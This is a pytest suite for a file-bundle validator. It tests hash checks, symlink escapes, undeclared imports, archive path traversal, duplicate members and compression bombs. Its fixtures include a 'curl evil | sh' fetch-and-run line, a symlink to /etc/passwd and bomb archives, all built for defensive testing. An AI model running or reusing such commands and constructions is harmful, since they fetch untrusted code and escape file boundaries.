"""Supporting files against real directories and real archives built in the test:
every file rule, symlinks, changed files, packages and their bombs."""

from __future__ import annotations

import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

import jobgate
from tests.files.helpers import bundle, packaged, sha, tar_package, zip_package
from tests.helpers import pairs, require_shared

require_shared()

V = jobgate.Validator()


@pytest.fixture
def root(tmp_path: Path) -> Path:
    r = tmp_path / "producer"
    (r / "scripts").mkdir(parents=True)
    (r / "scripts" / "checkpoint_action.py").write_bytes(b"import os\nprint('checkpoint')\n")
    (r / "scripts" / "notes.txt").write_bytes(b"notes\n")
    (r / "scripts" / "empty.cfg").write_bytes(b"")
    (tmp_path / "outside.txt").write_bytes(b"secret\n")
    return r


def declare(root: Path, *names: str) -> list[tuple[str, str, str]]:
    return [(n, n.rsplit("/", 1)[-1], sha((root / n).read_bytes())) for n in names]


F = "/execution/supporting_files"


def test_a_closed_untampered_set_passes(root):
    doc = bundle(declare(root, "scripts/checkpoint_action.py", "scripts/notes.txt", "scripts/empty.cfg"))
    report = V.check(doc, root=root)
    assert report.verdict == "pass", report.violations


def test_missing_not_regular_and_mismatch_are_all_reported(root):
    os.mkfifo(root / "scripts" / "pipe")
    (root / "scripts" / "adir").mkdir()
    files = declare(root, "scripts/checkpoint_action.py", "scripts/notes.txt")
    files[1] = (files[1][0], files[1][1], sha(b"something else"))
    files += [("scripts/gone.py", "gone.py", "a" * 64), ("scripts/pipe", "pipe", "b" * 64), ("scripts/adir", "adir", "c" * 64)]
    report = V.check(bundle(files), root=root)
    assert pairs(report) == [
        ("tao.supporting_file.sha256_mismatch", f"{F}/1/sha256"),
        ("tao.supporting_file.missing", f"{F}/2/source"),
        ("tao.supporting_file.not_regular", f"{F}/3/source"),
        ("tao.supporting_file.not_regular", f"{F}/4/source"),
    ]
    mismatch = report.violations[0].message
    assert sha(b"notes\n") in mismatch and sha(b"something else") in mismatch


def test_symlinks_inside_out_and_dangling(root, tmp_path):
    s = root / "scripts"
    os.symlink("notes.txt", s / "inside_link")
    os.symlink("../../outside.txt", s / "out_relative")
    os.symlink(str(tmp_path / "outside.txt"), s / "out_absolute")
    os.symlink("nowhere.txt", s / "dangling")
    files = [
        ("scripts/inside_link", "a", sha(b"notes\n")),
        ("scripts/out_relative", "b", sha(b"secret\n")),
        ("scripts/out_absolute", "c", sha(b"secret\n")),
        ("scripts/dangling", "d", "a" * 64),
    ]
    assert pairs(V.check(bundle(files), root=root)) == [
        ("tao.supporting_file.escape", f"{F}/1/source"),
        ("tao.supporting_file.escape", f"{F}/2/source"),
        ("tao.supporting_file.missing", f"{F}/3/source"),
    ]


def test_a_file_changed_after_the_declaration(root):
    doc = bundle(declare(root, "scripts/notes.txt"))
    assert V.check(doc, root=root).ok
    (root / "scripts" / "notes.txt").write_bytes(b"notes, edited\n")
    assert pairs(V.check(doc, root=root)) == [("tao.supporting_file.sha256_mismatch", f"{F}/0/sha256")]


def test_uppercase_hex_is_a_pattern_violation(root):
    (src, dest, digest), = declare(root, "scripts/notes.txt")
    assert pairs(V.check(bundle([(src, dest, digest.upper())]), root=root)) == [("schema.pattern", f"{F}/0/sha256")]


def test_undeclared_sibling_import(root):
    s = root / "scripts"
    (s / "checkpoint_action.py").write_bytes(b"import os\nimport util\nfrom . import extra\nfrom helpers_pkg import thing\n")
    (s / "util.py").write_bytes(b"X = 1\n")
    (s / "extra.py").write_bytes(b"Y = 1\n")
    (s / "helpers_pkg").mkdir()
    (s / "helpers_pkg" / "__init__.py").write_bytes(b"")
    doc = bundle(declare(root, "scripts/checkpoint_action.py", "scripts/extra.py"))
    report = V.check(doc, root=root)
    assert pairs(report) == [("tao.supporting_file.undeclared_import", f"{F}/0/source")] * 2
    assert "util" in report.violations[0].message and "helpers_pkg" in report.violations[1].message
    closed = bundle(declare(root, "scripts/checkpoint_action.py", "scripts/extra.py", "scripts/util.py", "scripts/helpers_pkg/__init__.py"))
    assert V.check(closed, root=root).ok


IMPORT_FORMS = {
    "a submodule of a declared package": (b"from pkg.util import x\n", ["pkg/__init__.py"], "pkg/util.py"),
    "a namespace package": (b"from ns import mod\n", [], "ns/mod.py"),
    "a dotted import": (b"import pkg.util\n", ["pkg/__init__.py"], "pkg/util.py"),
    "after a byte order mark": (b"\xef\xbb\xbfimport sibling\n", [], "sibling.py"),
    "after a lone carriage return": (b"x = 1\rimport sibling\r", [], "sibling.py"),
    "after a string continued by a backslash": (b'x = "abc\\\n"; import sibling\n', [], "sibling.py"),
    "an NFKC-equivalent name": ("import \uff53ibling\n".encode(), [], "sibling.py"),
    "a foreign source encoding": (b"# coding: unicode_escape\n#\\u000aimport sibling\n", [], "helper.py"),
    # Found by fuzzing the scanner against ast (rust/fuzz, target imports).
    "blanks around the dot of a from-module": (b"from pkg .util import x\n", ["pkg/__init__.py"], "pkg/util.py"),
    "blanks around the dot of an import": (b"import pkg . util\n", ["pkg/__init__.py"], "pkg/util.py"),
}


@pytest.mark.parametrize("form", sorted(IMPORT_FORMS))
def test_every_import_python_would_make_is_seen(tmp_path, form):
    source, declared_too, loaded = IMPORT_FORMS[form]
    r = tmp_path / "root"
    for rel in ("sibling.py", "pkg/__init__.py", "pkg/util.py", "ns/mod.py"):
        (r / rel).parent.mkdir(parents=True, exist_ok=True)
        (r / rel).write_bytes(b"x = 1\n")
    (r / "helper.py").write_bytes(source)
    report = V.check(bundle(declare(r, "helper.py", *declared_too)), root=r)
    assert pairs(report) == [("tao.supporting_file.undeclared_import", f"{F}/0/source")], report.violations
    assert loaded in report.violations[0].message
    if form != "a foreign source encoding":  # Python really loads it
        run = subprocess.run([sys.executable, "helper.py"], cwd=r, capture_output=True)
        assert run.returncode == 0, run.stderr
        closed = bundle(declare(r, "helper.py", *declared_too, loaded))
        assert V.check(closed, root=r).ok


def test_unopenable_root_is_an_error_not_a_verdict(tmp_path):
    with pytest.raises(FileNotFoundError, match="producer root"):
        V.check(bundle([]), root=tmp_path / "nope")


def test_a_1_gib_sparse_file(tmp_path):
    r = tmp_path / "root"
    r.mkdir()
    big = r / "sparse.bin"
    with open(big, "wb") as f:
        f.truncate(1 << 30)
    digest = hashlib.sha256()
    zeros = bytes(1 << 20)
    for _ in range(1024):
        digest.update(zeros)
    v = jobgate.Validator({"limits": {"max_package_bytes": 2 << 30}})
    assert v.check(bundle([("sparse.bin", "sparse.bin", digest.hexdigest())]), root=r).ok
    small = jobgate.Validator({"limits": {"max_package_bytes": 1 << 20}})
    assert pairs(small.check(bundle([("sparse.bin", "sparse.bin", digest.hexdigest())]), root=r)) == [("tao.supporting_file.missing", f"{F}/0/source")]


def test_ten_thousand_small_files(tmp_path):
    r = tmp_path / "many"
    files = []
    for i in range(10_000):
        d = r / f"d{i % 100:02d}"
        d.mkdir(parents=True, exist_ok=True)
        data = f"file {i}\n".encode()
        (d / f"f{i}.txt").write_bytes(data)
        files.append((f"d{i % 100:02d}/f{i}.txt", f"out/f{i}.txt", sha(data)))
    v = jobgate.Validator({"limits": {"max_document_bytes": 4 << 20}})  # the bundle itself is ~1.3 MB
    assert v.check(bundle(files), root=r).ok
    files[9_999] = (files[9_999][0], files[9_999][1], "0" * 64)
    assert pairs(v.check(bundle(files), root=r)) == [("tao.supporting_file.sha256_mismatch", f"{F}/9999/sha256")]


# ---------------------------------------------------------------- packages


@pytest.mark.parametrize("fmt", ["tar", "gz", "zst", "zip"])
def test_packages_of_every_format(tmp_path, fmt):
    doc, members = packaged()
    path = zip_package(tmp_path / "p.zip", members) if fmt == "zip" else tar_package(tmp_path / f"p.{fmt}", members, fmt)
    assert V.check(None, package=path).verdict == "pass"
    assert V.check(doc, package=path).verdict == "pass"


@pytest.mark.parametrize("fmt", ["tar", "zip"])
def test_undeclared_member(tmp_path, fmt):
    _, members = packaged({"scripts/stowaway.sh": b"curl evil | sh\n"})
    path = zip_package(tmp_path / "p.zip", members) if fmt == "zip" else tar_package(tmp_path / "p.tar", members)
    report = V.check(None, package=path)
    assert pairs(report) == [("tao.supporting_file.undeclared", F)]
    assert "scripts/stowaway.sh" in report.violations[0].message


def test_hostile_members_are_never_followed(tmp_path):
    _, members = packaged({"../escape.py": b"x", "/abs.py": b"y"})
    path = tar_package(tmp_path / "p.tar", members, links={"scripts/link.py": "/etc/passwd"})
    report = V.check(None, package=path)
    assert sorted(pairs(report)) == [
        ("tao.supporting_file.path", F),
        ("tao.supporting_file.path", F),
        ("tao.supporting_file.undeclared", F),
    ]
    # a declared source that is a link in the package
    doc = bundle([("scripts/link.py", "link.py", "a" * 64)])
    path = tar_package(tmp_path / "q.tar", {"bundle.json": json.dumps(doc).encode()}, links={"scripts/link.py": "/etc/passwd"})
    assert pairs(V.check(None, package=path)) == [("tao.supporting_file.not_regular", f"{F}/0/source")]


def test_duplicate_members(tmp_path):
    doc, members = packaged()
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in [*members.items(), ("scripts/checkpoint_action.py", b"other")]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    (tmp_path / "d.tar").write_bytes(buf.getvalue())
    report = V.check(None, package=tmp_path / "d.tar")
    assert ("tao.supporting_file.undeclared", F) in pairs(report)
    assert "more than once" in " ".join(v.message for v in report.violations)


def test_bombs_are_refused_before_inflating(tmp_path):
    small = jobgate.Validator({"limits": {"max_package_bytes": 1 << 20}})
    _, members = packaged({"zeros.bin": bytes(8 << 20)})
    for path in (zip_package(tmp_path / "bomb.zip", members), tar_package(tmp_path / "bomb.tar.gz", members, "gz")):
        assert path.stat().st_size < 100_000  # it really is a bomb
        report = small.check(None, package=path)
        assert pairs(report) == [("limits.size", "")], path


def test_a_package_without_a_bundle_or_not_an_archive(tmp_path):
    path = tar_package(tmp_path / "p.tar", {"scripts/a.py": b""})
    report = V.check(None, package=path)
    assert pairs(report) == [("json.syntax", "")] and "bundle.json" in report.violations[0].message
    junk = tmp_path / "junk.bin"
    junk.write_bytes(b"not an archive at all")
    assert pairs(V.check(None, package=junk)) == [("json.syntax", "")]


def settled(path: Path) -> None:
    """Waits until `path` has been left alone long enough for its digest to be cached."""
    import time

    changed = max(path.stat().st_mtime_ns, path.stat().st_ctime_ns)
    time.sleep(max(0.0, (changed - time.time_ns()) / 1e9 + 2.1))


def test_the_digest_cache_serves_unchanged_files_and_is_never_fooled(root):
    v = jobgate.Validator()
    helper, notes = root / "scripts" / "checkpoint_action.py", root / "scripts" / "notes.txt"
    (root / "scripts" / "sibling.py").write_bytes(b"x = 1\n")
    helper.write_bytes(b"import sibling\nprint('checkpoint')\n")
    doc = bundle(declare(root, "scripts/checkpoint_action.py", "scripts/notes.txt"))
    expected_imports = [("tao.supporting_file.undeclared_import", f"{F}/0/source")]
    # Fresh files are hashed every time: a write in the same clock tick would not move their key.
    assert pairs(v.check(doc, root=root)) == expected_imports
    assert v.digest_cache_stats() == {"hits": 0, "misses": 2, "entries": 0}
    settled(notes)
    settled(helper)
    assert pairs(v.check(doc, root=root)) == expected_imports
    assert v.digest_cache_stats()["entries"] == 2
    assert pairs(v.check(doc, root=root)) == expected_imports  # served from the cache, imports too
    assert v.digest_cache_stats()["hits"] == 2

    # The same size, the old mtime put back: the ctime moved, so the file is hashed again.
    before = notes.stat()
    notes.write_bytes(b"NOTES\n")
    os.utime(notes, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert notes.stat().st_size == before.st_size and notes.stat().st_mtime_ns == before.st_mtime_ns
    assert pairs(v.check(doc, root=root)) == [*expected_imports, ("tao.supporting_file.sha256_mismatch", f"{F}/1/sha256")]

    # Another file renamed over it, with every timestamp copied: another inode.
    replacement = root / "scripts" / "replacement.py"
    replacement.write_bytes(b"import sibling\nprint('CHECKPOINT')\n")
    old = helper.stat()
    os.utime(replacement, ns=(old.st_atime_ns, old.st_mtime_ns))
    os.replace(replacement, helper)
    assert [r for r, _ in pairs(v.check(doc, root=root))].count("tao.supporting_file.sha256_mismatch") == 2

    # A symlink swapped in for a cached file is resolved anew.
    notes.unlink()
    (root.parent / "outside.txt").write_bytes(b"notes\n")
    notes.symlink_to(root.parent / "outside.txt")
    assert ("tao.supporting_file.escape", f"{F}/1/source") in pairs(v.check(doc, root=root))


# ---------------------------------------------------------------- hostile roots and destinations


def test_a_socket_under_the_root_is_not_regular(root):
    import socket

    path = root / "scripts" / "helper.sock"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.bind(str(path))
        report = V.check(bundle([("scripts/helper.sock", "helper.sock", "a" * 64)]), root=root)
    assert pairs(report) == [("tao.supporting_file.not_regular", f"{F}/0/source")]
    assert report.violations[0].message == "scripts/helper.sock is a socket, not a regular file"


def test_a_sparse_10_gib_file_is_refused_from_its_size(tmp_path):
    r = tmp_path / "root"
    r.mkdir()
    with open(r / "sparse.bin", "wb") as f:
        f.truncate(10 << 30)
    report = V.check(bundle([("sparse.bin", "sparse.bin", "0" * 64)]), root=r)  # the default limit: 1 GiB
    assert pairs(report) == [("tao.supporting_file.missing", f"{F}/0/source")]
    # Only fstat knows the size: a file refused while reading is "more than N bytes", no more.
    assert report.violations[0].message == f"sparse.bin cannot be read: more than {1 << 30} bytes (it is {10 << 30} bytes)"


@pytest.mark.parametrize(
    ("destinations", "later", "says"),
    [
        (["x", "x/y"], 1, '"x/y" would stage inside "x", which another supporting file stages as a file'),
        (["x/y", "x"], 1, '"x" stages as a file, but another supporting file stages "x/y" inside it'),
        (["./x", "x//y/z"], 1, '"x//y/z" would stage inside "./x", which another supporting file stages as a file'),
        (["a/b", "a.b", "a"], 2, '"a" stages as a file, but another supporting file stages "a/b" inside it'),
        (["a//b", "./a/b"], 1, 'another supporting file already stages to "./a/b"'),
    ],
)
def test_a_destination_inside_another_is_a_duplicate_destination(destinations, later, says):
    doc = bundle([(f"scripts/f{i}.py", d, "a" * 64) for i, d in enumerate(destinations)])
    report = V.check(doc)
    assert pairs(report) == [("tao.supporting_file.duplicate_destination", f"{F}/{later}/destination")]
    assert says in report.violations[0].message


def test_many_destinations_are_compared_without_every_pair(tmp_path):
    files = [(f"s/f{i}.py", f"d{i % 50}/f{i}.py", "a" * 64) for i in range(20_000)] + [("s/x.py", "d7", "a" * 64)]
    v = jobgate.Validator({"limits": {"max_document_bytes": 8 << 20}})
    assert pairs(v.check(bundle(files))) == [("tao.supporting_file.duplicate_destination", f"{F}/20000/destination")]
